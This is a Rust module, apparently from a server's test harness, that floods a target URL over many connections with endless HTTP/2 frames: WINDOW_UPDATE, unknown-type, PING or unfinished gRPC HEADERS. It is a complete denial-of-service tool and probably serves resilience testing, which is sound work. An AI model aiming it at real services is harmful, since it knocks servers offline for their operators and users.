//! The attackers: connections on which frames are sent without end, and without a whole request.

use std::io::Read as _;

use anyhow::Context as _;
use clap::{Args, ValueEnum};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

use crate::serve;

/// The client connection preface (RFC 9113, section 3.4), with an empty SETTINGS frame.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// Frames of one write.
const AT_A_TIME: usize = 1_024;

/// The frames of a flood.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Frames {
    /// The smallest increments of the window of the connection.
    WindowUpdate,
    /// Frames of a type that no standard has, without content.
    Unknown,
    /// PINGs, each of which the server answers.
    Ping,
    /// HEADERS that open a call, which is never sent to its end.
    Headers,
}

impl Frames {
    pub(crate) const ALL: [Self; 4] = [Self::WindowUpdate, Self::Unknown, Self::Ping, Self::Headers];

    /// As the command line has it.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::WindowUpdate => "window-update",
            Self::Unknown => "unknown",
            Self::Ping => "ping",
            Self::Headers => "headers",
        }
    }

    /// The bytes of so many, on the next streams.
    fn bytes(self, count: usize, next_stream: &mut u32) -> Vec<u8> {
        let frame: &[u8] = match self {
            // The window of the connection overflows after two thousand million of them.
            Self::WindowUpdate => b"\0\0\x04\x08\0\0\0\0\0\0\0\0\x01",
            Self::Unknown => b"\0\0\0\x77\0\0\0\0\0",
            Self::Ping => b"\0\0\x08\x06\0\0\0\0\x0012345678",
            Self::Headers => return requests(count, next_stream),
        };
        frame.repeat(count)
    }
}

/// HEADERS of so many calls of the health service, which anybody may make: POST, http, path and type of the
/// content, in the codes of HPACK.
fn requests(count: usize, next_stream: &mut u32) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap_or(0)], text.as_bytes()].concat();
    let path = text("/grpc.health.v1.Health/Check");
    let headers = [&b"\x83\x86\x04"[..], &path, b"\x0f\x10", &text("application/grpc")].concat();
    let mut bytes = Vec::new();
    for _ in 0..count {
        bytes.extend([0, 0, u8::try_from(headers.len()).unwrap_or(0), 1, 4]);
        bytes.extend(next_stream.to_be_bytes());
        bytes.extend(&headers);
        *next_stream += 2;
    }
    bytes
}

/// Whom to flood, and how.
#[derive(Debug, Args)]
pub(crate) struct AttackerOptions {
    #[arg(long)]
    url: String,
    #[arg(long, value_enum)]
    frames: Frames,
    #[arg(long)]
    connections: usize,
}

/// Floods until standard input ends.
pub(crate) fn attack(options: &AttackerOptions) -> anyhow::Result<()> {
    let address = options.url.strip_prefix("http://").context("no http:// in the URL")?.to_owned();
    let runtime = serve::runtime(1)?;
    for _ in 0..options.connections {
        runtime.spawn(flood(address.clone(), options.frames));
    }
    std::io::stdin().lock().read_to_end(&mut Vec::new())?;
    runtime.shutdown_background();
    Ok(())
}

/// One connection after the other, each until the server ends it.
async fn flood(address: String, frames: Frames) {
    loop {
        let Ok(stream) = TcpStream::connect(&address).await else { return };
        let (mut read, mut write) = stream.into_split();
        let drain = async {
            let mut bytes = vec![0; 16 * 1024];
            while matches!(read.read(&mut bytes).await, Ok(1..)) {}
        };
        let send = async {
            let mut next_stream = 1;
            let mut chunk = PREFACE.to_vec();
            while write.write_all(&chunk).await.is_ok() {
                chunk = frames.bytes(AT_A_TIME, &mut next_stream);
            }
        };
        tokio::select! { () = drain => {}, () = send => {} }
    }
}
